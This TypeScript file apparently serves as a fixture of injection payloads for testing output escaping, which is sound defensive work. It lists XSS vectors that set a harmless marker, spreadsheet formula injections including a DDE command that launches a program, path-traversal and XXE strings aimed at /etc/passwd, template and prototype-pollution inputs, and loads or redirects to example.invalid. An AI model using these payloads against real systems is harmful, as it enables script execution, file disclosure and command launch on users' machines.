/** Texts that become markup, script, a formula or a path wherever a value is not escaped; each sets `hacked`. */

const call = 'window.hacked=1';

const elements = [
  `<script>${call}</script>`,
  `<SCRIPT>${call}</SCRIPT>`,
  `<script src=data:text/javascript,${call}></script>`,
  `<script/x>${call}</script>`,
  `<scr<script>ipt>${call}</scr</script>ipt>`,
  `<img src=x onerror=${call}>`,
  `<img src=x onerror="${call}"//`,
  `<img/src=x/onerror=${call}>`,
  `<svg onload=${call}>`,
  `<svg/onload=${call}>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${call}"><text y=9>x</text></a></svg>`,
  `<math><a xlink:href="javascript:${call}">x</a></math>`,
  `<math><mtext></form><form><mglyph><svg><mtext><style><img onerror=${call}>`,
  `<iframe src="javascript:${call}"></iframe>`,
  `<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>`,
  `<object data="javascript:${call}"></object>`,
  `<embed src="javascript:${call}">`,
  `<a href="javascript:${call}">x</a>`,
  `<a href="  javascript:${call}">x</a>`,
  `<a href="java&#10;script:${call}">x</a>`,
  `<a href="data:text/html,<script>${call}</script>">x</a>`,
  `<form action="javascript:${call}"><button>x</button></form>`,
  `<button formaction="javascript:${call}">x</button>`,
  `<input autofocus onfocus=${call}>`,
  `<select autofocus onfocus=${call}></select>`,
  `<textarea autofocus onfocus=${call}></textarea>`,
  `<details open ontoggle=${call}><summary>x</summary></details>`,
  `<body onload=${call}>`,
  `<video><source onerror=${call}></video>`,
  `<audio src=x onerror=${call}>`,
  `<marquee onstart=${call}>x</marquee>`,
  `<style>*{background:url(//example.invalid/x)}</style>`,
  `<link rel=stylesheet href=//example.invalid/x.css>`,
  `<base href=//example.invalid/>`,
  `<meta http-equiv=refresh content="0;url=//example.invalid/">`,
  `<template><script>${call}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<!--><script>${call}</script>-->`,
  `<![CDATA[<script>${call}</script>]]>`,
  `<?xml version="1.0"?><script>${call}</script>`,
  `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;`,
  `<x onclick=${call}>x</x>`,
  `<div style="width:expression(${call})">x</div>`,
];

/** What closes the place in which a value stands before the rest begins. */
const closings = [
  '">',
  "'>",
  '>',
  '</title>',
  '</textarea>',
  '</style>',
  '</script>',
  '-->',
  ']]>',
  '*/',
  '</td></tr></table>',
  '</p></div></main>',
];

const attributes = [
  `" onmouseover="${call}`,
  `' onmouseover='${call}`,
  `" autofocus onfocus=${call} x="`,
  '` onmouseover=`' + call,
  `" style="background:url(//example.invalid/)`,
  `" srcset="//example.invalid/x 1x`,
  `" src="//example.invalid/x`,
];

const scripts = [
  `";${call};//`,
  `';${call};//`,
  `\\";${call};//`,
  '`;' + call + ';//',
  `\${${call}}`,
  `{{constructor.constructor('${call}')()}}`,
  `{${call}}`,
  `<%= ${call} %>`,
  `#{${call}}`,
  `\u2028${call}\u2029`,
  `"}</script><script>${call}</script>`,
  `","@id":"javascript:${call}"`,
];

const links = [
  `[x](javascript:${call})`,
  `![x](//example.invalid/x)`,
  `<javascript:${call}>`,
  `[x]: javascript:${call}`,
  'https://example.invalid/x',
  '//example.invalid/x',
];

const formulas = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '\t=1+1',
  `=cmd|' /C calc'!A0`,
  `=HYPERLINK("http://example.invalid","x")`,
  '=IMPORTXML("http://example.invalid","//a")',
  '","=1+1',
  '"\r\n=1+1',
  ';=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
];

const paths = [
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '/etc/passwd',
  'C:\\x',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  'file:///etc/passwd',
  'a/../../b',
  'CON',
  'x\u0000y',
  '.htaccess',
];

const entities = [
  `&lt;script&gt;${call}&lt;/script&gt;`,
  `&#60;script&#62;${call}&#60;/script&#62;`,
  `&quot; onmouseover=&quot;${call}`,
  '&amp;',
  '&#x0;',
  '&nbsp;',
  '&notit;',
  '\\u003cscript\\u003e',
  '%3Cscript%3E',
];

const names = [
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  'null',
  'undefined',
  'NaN',
  'true',
  '[object Object]',
];

export const payloads: readonly string[] = [
  ...elements,
  ...closings.flatMap((closing) => [
    `${closing}<script>${call}</script>`,
    `${closing}<img src=x onerror=${call}>`,
    `${closing}<svg onload=${call}>`,
    `${closing}<iframe srcdoc="<script>parent.hacked=1</script>">`,
    `x${closing}<a href="javascript:${call}">x</a>`,
    `${closing}<base href=//example.invalid/>`,
    `${closing}<meta http-equiv=refresh content="0;url=//example.invalid/">`,
    `${closing}<link rel=stylesheet href=//example.invalid/x.css>`,
  ]),
  ...attributes,
  ...scripts,
  ...links,
  ...formulas,
  ...paths,
  ...entities,
  ...names,
];
